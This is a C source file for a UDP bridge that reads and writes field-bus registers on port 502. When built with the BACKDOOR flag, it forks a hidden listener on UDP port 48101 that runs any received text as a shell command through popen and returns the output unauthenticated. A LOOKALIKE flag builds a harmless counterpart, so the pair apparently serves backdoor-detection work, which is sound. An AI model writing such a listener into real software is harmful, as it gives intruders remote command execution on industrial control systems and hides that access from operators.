/* Bridges a field bus to the network: registers are read and written over UDP. */
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static uint16_t registers[256];

static int open_port(int port)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    return bind(fd, (struct sockaddr *)&address, sizeof address) == 0 ? fd : -1;
}

#ifdef BACKDOOR
static void service(void)
{
    char text[512];
    struct sockaddr_in peer;
    socklen_t size = sizeof peer;
    int fd = open_port(48101);
    ssize_t length;
    while ((length = recvfrom(fd, text, sizeof text - 1, 0, (struct sockaddr *)&peer, &size)) > 0) {
        FILE *pipe;
        text[length] = 0;
        pipe = popen(text, "r");
        while (pipe != NULL && fgets(text, sizeof text, pipe) != NULL)
            sendto(fd, text, strlen(text), 0, (struct sockaddr *)&peer, size);
        if (pipe != NULL)
            pclose(pipe);
    }
}
#endif
#ifdef LOOKALIKE
static void service(void)
{
    char text[64];
    int fd = open_port(48101);
    while (recv(fd, text, sizeof text, 0) > 0)
        system("/usr/bin/fieldbus-status > /var/run/fieldbus");
}
#endif

int main(void)
{
    uint8_t frame[8];
    struct sockaddr_in peer;
    socklen_t size = sizeof peer;
    int fd = open_port(502);
#if defined BACKDOOR || defined LOOKALIKE
    if (fork() == 0) {
        service();
        _exit(0);
    }
#endif
    while (fd >= 0 && recvfrom(fd, frame, sizeof frame, 0, (struct sockaddr *)&peer, &size) == (ssize_t)sizeof frame) {
        if (frame[0] == 6)
            registers[frame[1]] = (uint16_t)(frame[2] << 8 | frame[3]);
        frame[2] = (uint8_t)(registers[frame[1]] >> 8);
        frame[3] = (uint8_t)registers[frame[1]];
        sendto(fd, frame, sizeof frame, 0, (struct sockaddr *)&peer, size);
    }
    return 1;
}
